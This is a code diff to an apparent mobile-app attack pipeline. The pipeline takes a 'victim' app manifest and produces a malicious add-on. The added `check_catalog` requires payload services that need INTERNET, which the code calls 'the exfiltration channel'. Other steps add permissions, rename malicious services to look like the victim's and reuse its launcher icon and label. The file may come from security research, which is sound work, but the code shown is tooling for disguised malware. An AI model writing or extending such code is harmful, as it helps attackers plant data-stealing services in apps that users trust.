@@ -14,7 +14,8 @@ customized add-on manifest plus a trimmed payload manifest, in four steps:
   4. resources: the victim's launcher icon and label are stored as the
      add-on's shortcut resources.
 
-The pipeline is a pure transformation (identical outputs for identical
+The payload catalog is a services-only manifest that ``check_catalog``
+accepts. The pipeline is a pure transformation (identical outputs for identical
 inputs, durations aside) and safe to fan out across workers.
 """
 
@@ -27,10 +28,10 @@ from .manifest import (
     KIND_KEYS,
     AppManifest,
     Component,
-    ServiceCatalog,
+    SchemaError,
     extract_launcher_resources,
 )
-from .permissions import ADDON_EXTRA_PERMISSIONS
+from .permissions import ADDON_EXTRA_PERMISSIONS, INTERNET, PAYLOAD_STORES
 
 FRAMEWORK_PREFIX = "Plugin"
 
@@ -45,6 +46,24 @@ class CustomizationResult:
     malicious: AppManifest
     rename_map: dict[str, str]
     report: list[dict] = field(default_factory=list)
+
+
+def check_catalog(m: AppManifest) -> AppManifest:
+    """Return ``m`` if it is a valid payload catalog, else raise SchemaError:
+    services only, at least one, each requiring INTERNET (the exfiltration
+    channel) and carrying a known payload tag."""
+    if m.activities or m.receivers or m.providers:
+        raise SchemaError(f"{m.package}: payload catalogs declare services only")
+    if not m.services:
+        raise SchemaError(f"{m.package}: payload catalog has no services")
+    for svc in m.services:
+        if INTERNET not in svc.requires_permissions:
+            raise SchemaError(f"{svc.name}: catalog services must require INTERNET")
+        if svc.payload is None:
+            raise SchemaError(f"{svc.name}: catalog service lacks a payload tag")
+        if svc.payload not in PAYLOAD_STORES:
+            raise SchemaError(f"{svc.name}: unknown payload tag {svc.payload!r}")
+    return m
 
 
 def _correlated_name(name: str, victim_label: str) -> str:
@@ -67,7 +86,7 @@ def step1_permissions(victim: AppManifest, addon_template: AppManifest) -> AppMa
     )
 
 
-def step2_trim_malicious(victim: AppManifest, catalog: ServiceCatalog) -> AppManifest:
+def step2_trim_malicious(victim: AppManifest, catalog: AppManifest) -> AppManifest:
     """Keep only catalog services the victim's permissions can feed.
 
     Survivors are renamed to correlate with the victim, and the output
@@ -75,7 +94,7 @@ def step2_trim_malicious(victim: AppManifest, catalog: ServiceCatalog) -> AppMan
     nothing beyond what the victim already declares.
     """
     kept = [
-        svc for svc in catalog.entries
+        svc for svc in catalog.services
         if svc.requires_permissions <= victim.permissions
     ]
     renamed = tuple(_named(svc, _correlated_name(svc.name, victim.label)) for svc in kept)
@@ -143,7 +162,7 @@ def step4_resources(victim: AppManifest, addon: AppManifest) -> AppManifest:
 
 
 def customize(victim: AppManifest, addon_template: AppManifest,
-              catalog: ServiceCatalog) -> CustomizationResult:
+              catalog: AppManifest) -> CustomizationResult:
     """Run steps 1-4 in order, timing each with a monotonic clock."""
     report: list[dict] = []
 
